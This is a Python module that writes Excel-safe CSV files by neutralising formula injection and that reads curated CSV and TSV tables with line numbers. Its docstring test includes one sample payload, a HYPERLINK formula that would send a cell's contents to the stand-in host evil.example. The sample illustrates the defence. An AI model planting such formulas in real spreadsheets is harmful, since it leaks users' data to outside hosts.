"""CSV files: the one dialect of every CSV the project writes (UTF-8 with BOM, CRLF, Excel-safe
cells), and the curated CSV files it reads (agencies, manifest, plan aliases...) with line numbers;
the tab-separated rule tables of ``data/`` are read with line numbers too (:func:`read_tsv_rows`).

Text from documents is untrusted, and spreadsheets run formulas: a cell that begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is prefixed with ``'`` as OWASP recommends (plain
numbers such as ``-1.5`` stay numbers), and NUL and other control characters are dropped (the
graph keeps them; its serialisers escape them).

>>> safe_cell('=HYPERLINK("http://evil.example/?"&A1,"click")AI計畫')
'\\'=HYPERLINK("http://evil.example/?"&A1,"click")AI計畫'
>>> safe_cell("-1.5"), safe_cell("a\\x00b"), safe_cell(None), safe_cell(3)
('-1.5', 'ab', '', '3')
>>> to_csv_text(["id", "text"], [{"id": 1, "text": "@SUM(1+1)"}])
"id,text\\r\\n1,'@SUM(1+1)\\r\\n"
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any, Iterable, Mapping, Sequence

from recgraph.model import InputError, Problem

_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> str:
    """``value`` as a cell a spreadsheet shows as text and never evaluates."""
    text = "" if value is None else str(value)
    text = _CONTROL.sub("", text)
    if text.startswith(_FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def to_csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any] | Sequence[Any]]) -> str:
    """CSV text (header row first, CRLF line ends); rows are dicts keyed by column or sequences."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([safe_cell(c) for c in columns])
    for row in rows:
        cells = [row.get(c) for c in columns] if isinstance(row, Mapping) else row
        writer.writerow([safe_cell(v) for v in cells])
    return buf.getvalue()


def to_csv(columns: Sequence[str], rows: Iterable[Mapping[str, Any] | Sequence[Any]]) -> bytes:
    """CSV file bytes: :func:`to_csv_text` with a BOM, the form Excel opens without an import dialog."""
    return to_csv_text(columns, rows).encode("utf-8-sig")


def read_rows(path: str | Path, columns: list[str]) -> tuple[list[tuple[int, dict[str, str]]], list[Problem]]:
    """``(line, row)`` for each non-blank row of a UTF-8 (BOM optional) CSV with exactly ``columns``.

    Every problem is reported as ``file:line: ...``; the caller adds its own checks per row and
    raises them together.  A file that is not UTF-8 or has another header raises InputError at once; rows with the wrong
    number of fields are returned as problems.
    """
    path = Path(path)
    try:
        text = path.read_bytes().decode("utf-8-sig")
    except UnicodeDecodeError as e:
        line = path.read_bytes()[:e.start].count(b"\n") + 1
        raise InputError([Problem(str(path), line, f"not UTF-8 (byte {e.start}); save the file as UTF-8")]) from None
    reader = csv.reader(text.splitlines())
    if [h.strip() for h in next(reader, [])] != columns:
        raise InputError([Problem(str(path), 1, f"expected columns {','.join(columns)}")])
    rows, problems = [], []
    for cells in reader:
        if not any(c.strip() for c in cells):
            continue
        if len(cells) != len(columns):
            problems.append(Problem(str(path), reader.line_num,
                                    f"expected {len(columns)} fields ({','.join(columns)}), found {len(cells)}"))
            continue
        rows.append((reader.line_num, dict(zip(columns, cells))))
    return rows, problems


def read_tsv_rows(path: str | Path, columns: list[str]) -> tuple[list[tuple[int, list[str]]], list[Problem]]:
    """``(line, cells)`` for each row of a tab-separated rule table whose header is ``columns``;
    blank lines and ``#`` comments are skipped.  A wrong header is the one problem returned."""
    path = Path(path)
    rows: list[tuple[int, list[str]]] = []
    header_seen = False
    for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
        if not line.strip() or line.startswith("#"):
            continue
        cells = line.split("\t")
        if not header_seen:
            header_seen = True
            if [c.strip() for c in cells] != columns:
                return [], [Problem(str(path), n, f"header must be {' | '.join(columns)} (tab-separated)")]
            continue
        rows.append((n, cells))
    return rows, []
